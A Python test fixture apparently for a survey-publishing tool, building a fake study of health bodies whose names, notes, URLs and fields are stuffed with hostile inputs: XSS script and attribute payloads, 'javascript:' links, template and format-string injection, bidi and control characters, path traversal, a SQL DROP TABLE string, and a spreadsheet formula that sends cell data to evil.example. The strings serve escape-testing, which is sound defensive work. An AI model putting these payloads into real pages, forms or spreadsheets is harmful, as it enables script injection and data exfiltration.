"""A study by people who mean harm or have bad luck: every text of it could break a page that is careless."""

from dataclasses import replace
from typing import Any

from answerable.core.bodies.model import BodyKind
from answerable.core.questions import Question
from answerable.core.study.model import Round, Study
from tests.factories import make_round, make_study, question
from tests.unit.press.maps.land import block, land

KIND = "ccg"
TAG = "<xss onload=\"alert('x')\">"
LONGEST = "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" * 4
NAMES = (
    f"<script>alert('x')</script>{TAG}",
    "\" onmouseover=\"alert('x')\" x='y' autofocus onfocus=alert(1) ",
    "Ben & Jerry's “Board” &amp; &lt;b&gt; <b>",
    f"]]></textarea></title></style></script></svg></details>-->{TAG}",
    "Trust \u202eeht fo sdrow \u2067x",
    "בית חולים (5) <הדסה>",
    "🏥👩\u200d⚕️ 🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    LONGEST[:200],
    "W" * 200,
    "——",
    "/../..//",
    "\u200b\u200f ",
    "Two of a Name",
    "two of a name",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "{{ 7*7 }}{% raw %}${alert(1)}",
    "%s %(name)s {0} {name} {n.__class__} %",
    "Bell\x07, escape\x1b[31m, null\x00, two\nlines\tand \x85 \ufffe",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e <!-- <script>",
    "'; DROP TABLE bodies; --",
)
REGIONS = (TAG, "R" * 120, "North & <South>", "", "ז{0}%s\u202e")
CODES = ('E"1<&>', "../../x", "e'2", "É 3", "E{0}%s", *(f"E{n}" for n in range(5, len(NAMES))))
RUNS = "javascript:alert('x')"


def questions(round_id: str) -> list[Question]:
    """A pair, a choice with options of any letters, a number, a text, follow-ups; all of them hostile."""
    earlier = {"round": "2016", "question": "n", "comparability": "soft", "because": f"Because {TAG} {{x}}"}
    link = {"compares_with": earlier} if round_id != "2016" else {}
    duty = {"name": f"Care {TAG}", "source": f"An Act {LONGEST[:200]}", "force": "must", "url": RUNS}
    return [
        question(
            "n",
            f"Is it so?{TAG} {{name}} %s {LONGEST}",
            label=f"Nurses {TAG} {{0}}",
            number="1<a>",
            duty=duty,
            section=TAG,
            note=f"{TAG}\u202e",
            meaning={"yes": TAG, "no": "{x}"},
            **link,
        ),
        question("more", f"More {TAG}", answer="text", parent="n", condition="yes", label=NAMES[3]),
        question(
            "night", f"And out of hours? {TAG}", label=f"Nurses at night {TAG}", pair_of="n", section=TAG
        ),
        question(
            "form",
            "Which?",
            answer="choice",
            options=[TAG, "a" * 90, '"quoted" & {0}', "yes"],
            label=NAMES[1],
        ),
        question("count", "How many?", answer="count", unit=f"<u>{TAG}", label=LONGEST[:120], period=TAG),
    ]


def answers(shift: int) -> dict[str, dict[str, Any]]:
    """What the bodies said, with notes, evidence and addresses that nobody should follow."""
    options = (TAG, "a" * 90, '"quoted" & {0}', "yes")
    made: dict[str, dict[str, Any]] = {}
    for n, code in enumerate(CODES):
        word = ("yes", "no", "yes", "refused")[(n + shift) % 4]
        made[code] = {
            "n": {
                "answer": word,
                "note": f"{NAMES[n]} {TAG}",
                "evidence": f"{NAMES[(n + 3) % len(NAMES)]}\n\n{LONGEST}",
                "evidence_url": (RUNS, "https://example.org/?a=1&b=\"2'><xss>")[n % 2],
                "statement": TAG,
            }
            if word != "refused"
            else "refused",
            "night": ("yes", "no", "no_reply")[n % 3],
            "form": options[n % 4],
            "count": float(n) if n % 3 else {"note": f"about {TAG}", "value": None, "answer": None},
        }
        if word == "yes":
            made[code]["more"] = {"answer": f"{TAG}{LONGEST}{{n}}"}
    return made


def bodies() -> list[dict[str, Any]]:
    """Twenty bodies, and one that is gone."""
    rows = [
        {
            "id": code,
            "kind": KIND,
            "name": name,
            "opened": "2013-04-01",
            "region": REGIONS[n % len(REGIONS)],
            "url": (RUNS, 'https://example.org/"><xss>')[n % 2],
            "email": '"x y"@example.org?cc=all<xss>',
            "official_name": TAG,
            "type": TAG,
            "note": TAG,
            "ods_code": "<X>",
        }
        for n, (code, name) in enumerate(zip(CODES, NAMES, strict=True))
    ]
    gone = {"id": "OLD", "kind": KIND, "name": NAMES[0], "opened": "2010-01-01", "closed": "2013-03-31"}
    return [*rows, gone]


def rounds() -> list[Round]:
    """Two rounds with answers and one to come."""
    said = {"body_id": CODES[0], "question_id": "n", "statement": f"{TAG}\u202e{LONGEST}", "url": RUNS}
    return [
        make_round("2016", {KIND: questions("2016")}, answers(0), sent_on="2016-04-04", cut_off="2016-06-03"),
        make_round(
            "2017",
            {KIND: questions("2017")},
            answers(1),
            sent_on="2017-06-14",
            cut_off="2017-10-09",
            statements=[said],
            title=f"Round {TAG} {{0}}",
            extra={"note": TAG},
        ),
        make_round("2026", {KIND: questions("2026")}, None, sent_on=None, title=LONGEST[:150]),
    ]


def tables() -> dict[str, Any]:
    """What stands beside bodies and rounds: succession, people, printed figures, boundaries."""
    person = {"role": TAG, "area": TAG, "email": "a@b.example", "url": RUNS, "source": TAG}
    squares = dict(zip(CODES, block(5, 4).values(), strict=True))
    merged = {"effective_date": "2013-04-01", "predecessor_id": "OLD", "successor_id": CODES[0]}
    figure = {"round": "2016", "kind": KIND, "question": "n", "measure": "yes", "percent": 99.0}
    return {
        "successions": [{**merged, "change": "merger", "note": TAG}],
        "representatives": [
            {**person, "body_id": code, "name": name} for code, name in zip(CODES, NAMES, strict=True)
        ],
        "published": [{**figure, "source": TAG, "note": TAG}],
        "boundaries": {KIND: land(squares)},
        "body_attributes": {"stp": TAG},
    }


def hostile_study(**given: Any) -> Study:
    """The whole study."""
    study = make_study(
        bodies(),
        rounds(),
        title=f"Title {TAG} {{0}} %s",
        publisher=NAMES[3],
        licence=f"Own {TAG}",
        contact=RUNS,
        summary=f"{TAG} & {LONGEST}",
        extra={"signposting": f"Call {TAG} {{x}}", "sources": [TAG]},
        **tables(),
        **given,
    )
    return replace(study, body_kinds={KIND: BodyKind(KIND, f"<i>group {TAG}", f"groups {TAG}", "G<i>{0}%s")})
